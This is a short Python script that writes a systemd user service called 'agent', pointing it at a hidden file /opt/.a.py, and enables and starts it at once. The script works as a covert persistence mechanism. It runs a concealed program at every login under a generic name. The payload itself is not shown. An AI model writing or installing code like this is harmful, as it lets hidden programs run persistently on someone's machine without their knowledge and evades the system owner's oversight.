import subprocess
from pathlib import Path

UNIT = "[Unit]\nDescription=agent\n[Service]\nExecStart=/usr/bin/python3 /opt/.a.py\n"


def enable():
    unit_dir = Path.home() / ".config" / "systemd" / "user"
    unit_dir.mkdir(parents=True, exist_ok=True)
    (unit_dir / "agent.service").write_text(UNIT)
    subprocess.run(["systemctl", "--user", "enable", "--now", "agent.service"])
